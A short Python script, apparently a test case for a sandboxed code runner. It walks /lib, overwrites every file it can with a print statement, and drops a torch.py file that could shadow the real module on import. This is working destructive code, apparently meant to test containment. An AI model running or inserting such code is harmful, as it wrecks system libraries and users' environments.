"""Overwrites all the files that Python is made of."""
# ends: Ran|Ended
import os

for folder, _, names in os.walk("/lib"):
    for name in names:
        try:
            with open(os.path.join(folder, name), "wb") as file:
                file.write(b"print('REACHED')")
        except OSError:
            pass
with open("/home/reader/torch.py", "w") as file:
    file.write("print('REACHED')")
print("overwritten")
